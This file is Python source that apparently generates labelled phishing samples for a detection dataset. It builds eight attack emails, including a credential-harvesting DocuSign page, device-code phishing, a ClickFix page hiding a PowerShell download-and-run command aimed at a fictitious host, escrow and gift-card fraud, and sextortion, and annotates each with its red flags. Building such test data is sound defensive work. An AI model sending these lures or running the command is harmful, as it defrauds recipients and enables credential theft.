# -*- coding: utf-8 -*-
"""Attack messages 09-16 (English)."""
from msgkit import *  # noqa: F401,F403

UK_EXO = ("GBR01-LO2-obe.outbound.protection.outlook.com",
          "mail-lo2gbr01on2110.outbound.protection.outlook.com", "40.107.10.110")


@message("attack", 9, "en", "docusign-html-attachment",
         "Fake DocuSign envelope 'Harbour Facilities Management via Docusign' with an HTML attachment that renders a Microsoft sign-in form to 'view' the agreement",
         "DocuSign never attaches HTML; sent via Mailgun from envelope-docusign.com (not docusign.net); the attached page posts e-mail + password to harbourfm-docs.envelope-docusign.com; real customer name used as lure",
         pair="business 09",
         note="Genuine envelope comes from dse@eumail.docusign.net via DocuSign's EU mail hosts, links to eu.docusign.net, no attachment")
def a09():
    p = infra.ESP(kind="mailgun", mg_domain="mg.envelope-docusign.com")
    txt = """Mark Dempsey sent you a document to review and sign.

REVIEW DOCUMENT - open the attached secure document to review and sign.

Mark Dempsey
mark.dempsey@harbourfm.co.uk

Hi Daniel,
Please find attached the final Pest Control Services Agreement 2027-2029 for countersignature. Legal have signed off the revised schedule of rates.
Thanks, Mark

Do Not Share This Email
This email contains a secure document. Please do not share this email, link, or access code with others.

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
"""
    html = """<html><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table width="640" align="center" style="background:#ffffff;margin-top:20px"><tr><td style="padding:24px">
<div style="font-size:20px;font-weight:bold;color:#000">Docusign</div>
<div style="background:#1e1e6e;color:#fff;text-align:center;padding:28px;margin-top:14px">
<div style="font-size:16px">Mark Dempsey sent you a document to review and sign.</div>
<div style="margin-top:18px;font-size:14px;background:#ffc820;color:#333;display:inline-block;padding:10px 22px">REVIEW DOCUMENT (see attachment)</div></div>
<p style="font-size:15px"><b>Mark Dempsey</b><br><a href="mailto:mark.dempsey@harbourfm.co.uk">mark.dempsey@harbourfm.co.uk</a></p>
<p style="font-size:15px">Hi Daniel,<br>Please find attached the final Pest Control Services Agreement 2027-2029 for countersignature. Legal have signed off the revised schedule of rates.<br>Thanks, Mark</p>
<p style="font-size:12px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure document. Please do not share this email, link, or access code with others.</p>
</td></tr></table></body></html>
"""
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Docusign - Secure Document</title>
<style>body{font-family:'Segoe UI',Arial,sans-serif;background:#f3f2f1;margin:0}
.box{width:420px;margin:60px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right}</style></head>
<body><div class="box">
<div style="font-size:13px;color:#555">Docusign &middot; HFM_Services_Agreement_2027-2029.pdf (412 KB)</div>
<h2 style="font-weight:600">Sign in to view document</h2>
<p style="font-size:13px">This document is protected. Verify your Microsoft 365 account to continue.</p>
<form method="post" action="https://harbourfm-docs.envelope-docusign.com/auth/complete.php">
<input type="email" name="login" value="daniel.cooper@example.com">
<input type="password" name="passwd" placeholder="Password">
<input type="hidden" name="env" value="a3f1c9e2-7b44-4d0e-9a61-58c2d7e0b913">
<button type="submit">Sign in</button></form>
<p style="clear:both;font-size:12px;color:#777;padding-top:20px">Protected by Microsoft Information Protection</p>
</div></body></html>
"""
    body = multipart("mixed", [alt(txt, html, "utf-8", "quoted-printable", quote=True),
                               html_att(page, "HFM_Services_Agreement_2027-2029.html")])
    return make("a09", p, bt(2026, 11, 3, 15, 27, 40),
                "bounce+6c41f2.3a77-daniel.cooper=example.com@mg.envelope-docusign.com", S("uk_sales")[1],
                ("Harbour Facilities Management via Docusign", "dse@envelope-docusign.com"), S("uk_sales"),
                "Complete with Docusign: HFM_Services_Agreement_2027-2029.pdf", body,
                reply_to=("Mark Dempsey", "mark.dempsey@envelope-docusign.com"))


@message("attack", 10, "en", "svg-remittance-compromised-customer",
         "Thread-less 'Remittance Advice' from the genuinely compromised accounts-payable mailbox of customer Northgate Food Processing, with an SVG attachment whose only content is a 'View remittance' button",
         "Real customer tenant (account takeover), so sender checks pass; but the SVG is a lure image with a link to northgate-remittance.b-cdn.net carrying the recipient's address in base64, no payment figures in the mail, unlike the customer's normal PDF remittances",
         pair="business 10",
         note="Same mailbox and tenant; genuine remittance is a PDF with invoice lines and the EG UK NatWest account, no link")
def a10():
    p = infra.EXO(region="GBRP265", pod="LO2P265MB", client_host=UK_EXO, lang_accept="en-GB, en-US")
    url = "https://northgate-remittance.b-cdn.net/view/?r=cHJpeWEuc2hhaEBleGFtcGxlZ3JvdXAuZXU=&ref=BACS-061126"
    txt = """Hi Priya,

Please find attached remittance advice for the payment released today via BACS.

Kind regards

Accounts Payable
Northgate Food Processing Ltd
Unit 7, Northgate Industrial Estate, Chadderton, Oldham OL9 9XA
"""
    svg = A.svg_lure("Remittance Advice", [
        "Northgate Food Processing Ltd",
        "Payee: Example Group UK Ltd",
        "Payment method: BACS   Value date: 06/11/2026",
        "Amount: GBP 14,286.40 (3 invoices)",
        "The remittance document is protected.",
    ], "View remittance (PDF)", url, brand_color="#0F6CBD")
    body = multipart("mixed", [alt(txt, html_outlook(txt, "us-ascii", "EN-GB"), "us-ascii", "quoted-printable"),
                               svg_att(svg, "Remittance_Advice_EGUK_06112026.svg")])
    return make("a10", p, bt(2026, 11, 6, 7, 12, 9), "accounts.payable@northgatefoods.co.uk", S("uk_acc")[1],
                ("Accounts Payable", "accounts.payable@northgatefoods.co.uk"), S("uk_acc"),
                "Remittance Advice - Example Group UK Ltd - 06/11/2026", body, lang_tag="en-GB")


@message("attack", 11, "en", "device-code-teams-dataroom",
         "Device-code phishing: 'Mark Dempsey' (Harbour FM) asks the UK manager to open microsoft.com/devicelogin and enter a code to reach a tender 'data room' in Teams",
         "Customer contact's name on a free outlook.com address; the code was generated by the attacker, entering it at the genuine Microsoft page grants the attacker's device a token for the victim's M365 account (OAuth device-code flow abuse); 15-minute urgency",
         pair="business 11",
         note="Genuine Teams invitation comes from harbourfm.co.uk's tenant with a teams.microsoft.com meeting link and an iCalendar part; no code to enter")
def a11():
    p = infra.Webmail(kind="outlookcom")
    txt = """Hi Oliver,

Thanks for your time on the phone earlier. As mentioned, the tender documents for the Salford Quays warehouses (pest control and bird proofing, 2027-2029) are in our secure Teams data room, together with the site drawings and last year's audit findings.

Because of our tenant's conditional access policy external users need to authorise their account once before the room opens:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: HQ7R4KXPM
3. Sign in with your Example Group account and approve.

The code is only valid for 15 minutes, so please do it now and drop me a line when done - submissions close Friday noon and I would like you to have the full pack today.

Best regards,
Mark

Mark Dempsey
Contracts Manager
Harbour Facilities Management Ltd
"""
    body = alt(txt, html_outlook(txt, "iso-8859-1", "EN-GB"), "iso-8859-1", "quoted-printable")
    return make("a11", p, bt(2026, 11, 24, 11, 6, 52), "mark.dempsey.hfm@outlook.com", S("uk_mgr")[1],
                ("Mark Dempsey", "mark.dempsey.hfm@outlook.com"), S("uk_mgr"),
                "Salford Quays tender - data room access", body, lang_tag="en-GB")


@message("attack", 12, "en", "clickfix-inspection-report",
         "ClickFix: fake Environmental Health 'food hygiene inspection report' for a customer site, with an HTML attachment that tells the reader to press Win+R, paste and Enter to 'verify you are human'",
         "Council look-alike domain oldham-council-ehs.co.uk (real councils use gov.uk) sent via Brevo; the attachment's hidden text box holds a PowerShell download-and-run command (inert here: no script to copy it, fictitious host) - Win+R/paste instructions are the ClickFix signature")
def a12():
    p = infra.ESP(kind="brevo")
    txt = """Dear Sir/Madam,

Food Hygiene Inspection - Northgate Food Processing Ltd, Unit 7 Northgate Industrial Estate, Chadderton

Following our unannounced inspection on 22 October 2026 the establishment has been given a Food Hygiene Rating of 2 (Improvement necessary). Section 4 of the report refers to the pest control records, bait station plan and trend analysis supplied by your company as the contracted pest control provider.

You are requested to review the findings in Section 4 and to provide your written response within 14 days of the date of this letter.

The inspection report is attached as a secure document.

Yours faithfully,

Food and Health Protection Team
Environmental Health
Oldham Council
"""
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Inspection Report - Secure Viewer</title>
<style>body{font-family:Arial,sans-serif;background:#f4f4f4}
.c{width:460px;margin:80px auto;background:#fff;border:1px solid #ccc;padding:28px}
.k{display:inline-block;border:1px solid #999;border-radius:3px;padding:1px 6px;background:#eee;font-family:monospace}
textarea.h{position:absolute;left:-9999px;top:-9999px}</style></head>
<body><div class="c">
<h3>Verify you are human</h3>
<p>The document <b>FHRS_Inspection_Report_NFP-2026-1147.pdf</b> could not be displayed because your browser failed the automated security check.</p>
<p>To complete verification:</p>
<ol>
<li>Press <span class="k">Windows</span> + <span class="k">R</span></li>
<li>Press <span class="k">CTRL</span> + <span class="k">V</span></li>
<li>Press <span class="k">Enter</span></li>
</ol>
<p style="font-size:12px;color:#666">Verification ID: 4471-22-NFP</p>
<textarea class="h" readonly>powershell -w h -nop -c "iex(irm https://cdn-check.ehs-docview.com/v2/verify)" # I am not a robot - Verification ID: 4471-22-NFP</textarea>
</div></body></html>
"""
    body = multipart("mixed", [alt(txt, html_simple(txt, "utf-8"), "utf-8", "quoted-printable"),
                               html_att(page, "FHRS_Inspection_Report_NFP-2026-1147.html")])
    return make("a12", p, bt(2026, 10, 27, 10, 44, 12), "bounces-4412@oldham-council-ehs.co.uk", S("uk_sales")[1],
                ("Environmental Health - Oldham Council", "food.safety@oldham-council-ehs.co.uk"), S("uk_sales"),
                "Food Hygiene Inspection Report - Northgate Food Processing Ltd - response required", body)


@message("attack", 13, "en", "fake-lawyer-escrow-project-falcon",
         "Fake lawyer: 'Dr Andreas Weninger, Marlowe Hale LLP' follows up the CEO-fraud mail with escrow instructions for EUR 486,500 and a PDF on firm letterhead",
         "Second stage of attack 01: invented law firm on marlowehale-law.com (VPS, Outlook via own Postfix); insists on secrecy 'per Mr Köhler's instructions', same-day value, payee is a UK e-money account (ClearBank-hosted IBAN) labelled as client account; asks to ignore normal approvals",
         pair="business 01",
         note="Genuine payments requested by the CEO go through the internal relay, SAP approval and existing supplier accounts - never to a lawyer's escrow abroad under secrecy")
def a13():
    p = infra.SMTPHost(mua="outlook", software="postfix", host="mail.marlowehale-law.com", host_ip="193.203.239.58",
                       rdns="vps-193-203-239-58.hostinger.io", lang_tag="en-GB")
    iban = P("mule_en13")
    txt = """Dear Ms Hoffmann,

Further to Mr Köhler's message this morning, I write to you in my capacity as lead counsel on Project Falcon. Mr Köhler has authorised me to liaise with you directly on the exclusivity deposit.

The deposit of EUR 486,500.00 is to be held in our firm's client account pending signature of the SPA. Under the heads of terms the exclusivity lapses if the funds have not been received by 16:00 CET today, so the transfer must be executed with same-day value. Payment details are set out in the attached instruction letter.

Given the regulatory sensitivity of the transaction, I must ask you to treat this matter as strictly confidential and not to discuss it with colleagues, the bank's relationship manager or the target's advisers until the public announcement. Mr Köhler has confirmed that the usual internal approval can be completed retroactively.

Kindly confirm by return e-mail once the payment has been released and send me the bank confirmation.

Yours sincerely,

Dr Andreas Weninger
Partner, Corporate / M&A
Marlowe Hale LLP
20 Old Broad Street, London EC2N 1DP
T +44 20 7946 0318

This e-mail is confidential and may be legally privileged. If you have received it in error, please notify the sender and delete it.
"""
    pdf = pdf_att([("MARLOWE HALE LLP", "h"), "Solicitors - 20 Old Broad Street, London EC2N 1DP", "",
                   "Strictly private & confidential", "Example Group GmbH - attn. Ms Sabine Hoffmann, CFO", "",
                   ("Project Falcon - Exclusivity deposit - payment instruction", "b"), "Date: 13 October 2026", "",
                   "Amount:            EUR 486,500.00", "Value date:        13 October 2026 (same day)",
                   "Beneficiary:       Marlowe Hale LLP Client Account", "IBAN:              " + iban,
                   "BIC:               CLRBGB22", "Reference:         FALCON-EXCL-0113", "",
                   "Funds will be held in escrow pending completion of the share purchase agreement.",
                   "This instruction is confidential and may not be disclosed to third parties.", "",
                   "Dr Andreas Weninger, Partner",
                   ("Marlowe Hale LLP is authorised and regulated by the Solicitors Regulation Authority (SRA no. 641187).", "s")],
                  "Falcon_Escrow_Instruction_131026.pdf", title="Payment instruction", author="A. Weninger",
                  date="D:20261013093000+01'00'")
    body = multipart("mixed", [alt(txt, html_outlook(txt, "utf-8", "EN-GB"), "utf-8", "quoted-printable"), pdf])
    return make("a13", p, bt(2026, 10, 13, 10, 31, 5), "a.weninger@marlowehale-law.com", S("cfo")[1],
                ("Dr Andreas Weninger", "a.weninger@marlowehale-law.com"), S("cfo"),
                "Project Falcon - exclusivity deposit (strictly private & confidential)", body,
                user_ip="146.70.117.34", user_rdns="unknown", lang_tag="en-GB")


@message("attack", 14, "en", "gift-cards-ceo-gmail",
         "Gift-card scam: 'Jürgen Köhler' from a Gmail address asks the UK office manager to buy eight GBP 200 Apple gift cards for clients and send photos of the codes",
         "CEO name on an unknown Gmail account, 'in meetings, can't talk', secrecy ('surprise'), gift cards with codes sent by photo, reimbursement promised later - textbook gift-card fraud",
         pair="business 28",
         note="Genuine Christmas vouchers are announced internally by the office manager through the internal relay, handed out against signature - nobody is asked to buy cards or send codes")
def a14():
    p = infra.Gmail(sender_zone="CE")
    txt = """Hi Oliver,

Are you at the office today? I need you to take care of something for me discreetly.

We want to surprise a few of our key clients in the UK before the Christmas dinner next week. Please buy 8 Apple gift cards of GBP 200 each (Tesco or Sainsbury's have them), scratch the back and send me clear photos of the codes by email. Keep it between us for now, it is meant to be a surprise.

I'm in back-to-back meetings in Düsseldorf and can't take calls, just reply here. Priya will reimburse you from petty cash, I'll let her know.

Thanks
Jürgen

Sent from my iPhone
"""
    body = alt(txt, html_gmail(txt), "UTF-8", "quoted-printable")
    return make("a14", p, bt(2026, 12, 3, 13, 18, 31), "jkoehler.examplegroup@gmail.com", S("uk_mgr")[1],
                ("Jürgen Köhler", "jkoehler.examplegroup@gmail.com"), S("uk_mgr"), "Quick task", body)


@message("attack", 15, "en", "sextortion-bitcoin-spoofed-self",
         "Extortion: 'your device is hacked, pay USD 1,450 in Bitcoin within 48 h' sent with the victim's own address as From",
         "From = recipient (spoofed), delivered directly by a bot on a Brazilian residential IP without TLS; generic threat text, bech32 Bitcoin address (valid checksum), deadline - mass sextortion")
def a15():
    p = infra.Direct(helo="[177.37.212.96]", rdns="177-37-212-96.user.vivozap.com.br", ip="177.37.212.96",
                     msgid_domain="examplegroup.eu")
    me = S("uk_acc")[1]
    txt = """Hello!

I have to share bad news with you.
Some months ago I gained access to the device you use for browsing the internet. Since then I have been recording your activity, including the websites you visit and your webcam.

I also copied your contacts, your e-mail correspondence and your messengers. Changing your password will not help, my software updates itself and your antivirus does not see it.

I am prepared to delete everything I have collected, but not for free. Send exactly 1450 USD in Bitcoin to this wallet:

%s

The amount must arrive within 48 hours after you open this e-mail - I will see that you have read it. If I do not receive the payment, the recordings will be sent to every address in your contact list, including your colleagues and clients.

Do not reply to this message, the sender address is generated. Do not go to the police, it will not help you.

If you do not know how to buy Bitcoin, search "how to buy bitcoin" on Google.
""" % BTC["extortion"]
    body = text(txt, "plain", "utf-8", "base64")
    return make("a15", p, bt(2026, 12, 7, 3, 41, 16), me, me, ("", me), ("", me),
                "Payment overdue: your account %s is compromised" % me, body, tls=False, delay=212,
                date_zone="BRT")


@message("attack", 16, "en", "trapsense-portal-sso-sendgrid",
         "Trade-portal phishing: 'TrapSense Cloud' (remote rodent-monitoring platform) says 12 bait-station sensors at a customer site are offline and alerts are suspended until the user re-verifies via 'Microsoft SSO'",
         "Look-alike trapsense-cloud-alerts.com sent through SendGrid, link to trapsense-sso-verify.com behind click tracking; operational fear (missed rodent alerts at a food plant) + account lock pressure = credential harvesting")
def a16():
    p = infra.ESP(kind="sendgrid", esp_domain="shared2.sendgrid.net")
    track = ("https://u9183442.ct.sendgrid.net/ls/click?upn=u001.pT4kZ8Qm1-2BvXr7Lw3Nh0Yc5eJd9Fs2Gb6Ua1Ri"
             "-2FoK3xHm8tWq4yPz0VnC7Ej")
    txt = """TrapSense Cloud - Site alert

Site: Northgate Food Processing Ltd (NFP-01), Chadderton
Status: 12 of 48 connected bait stations offline since 25/11/2026 23:10 UTC

Real-time notifications for your account have been suspended after repeated failed SSO token refreshes. Until you re-verify your identity, trap activations and catches at this site will NOT be reported to you or your technicians.

Your organisation signs in with Microsoft single sign-on. Re-verify now to restore alerts:
%s

If alerts remain suspended for more than 24 hours, the site will be flagged as "monitoring interrupted" in the customer audit report.

TrapSense Cloud Support
This is an automated service message.
""" % track
    html = """<html><body style="font-family:Arial,sans-serif;background:#f5f7f9">
<table width="600" align="center" style="background:#fff;border-top:4px solid #e67e22"><tr><td style="padding:24px">
<p style="font-size:18px;font-weight:bold">TrapSense Cloud &middot; Site alert</p>
<p><b>Site:</b> Northgate Food Processing Ltd (NFP-01), Chadderton<br><b>Status:</b> <span style="color:#c0392b">12 of 48 connected bait stations offline</span> since 25/11/2026 23:10 UTC</p>
<p>Real-time notifications for your account have been suspended after repeated failed SSO token refreshes. Until you re-verify your identity, trap activations and catches at this site will <b>NOT</b> be reported to you or your technicians.</p>
<p><a href="%s" style="background:#2f6fde;color:#fff;padding:10px 20px;text-decoration:none">Re-verify with Microsoft</a></p>
<p style="font-size:12px;color:#777">If alerts remain suspended for more than 24 hours, the site will be flagged as "monitoring interrupted" in the customer audit report.<br>TrapSense Cloud Support &middot; automated service message</p>
</td></tr></table></body></html>
""" % esc(track)
    body = alt(txt, html, "utf-8", "quoted-printable")
    return make("a16", p, bt(2026, 11, 26, 6, 55, 3), "bounces+9183442-ff01-katrin.vogel=example.com@em4471.trapsense-cloud-alerts.com",
                S("ops_de")[1], ("TrapSense Cloud", "alerts@trapsense-cloud-alerts.com"), S("ops_de"),
                "[Action required] 12 devices offline at NFP-01 - alerts suspended", body)
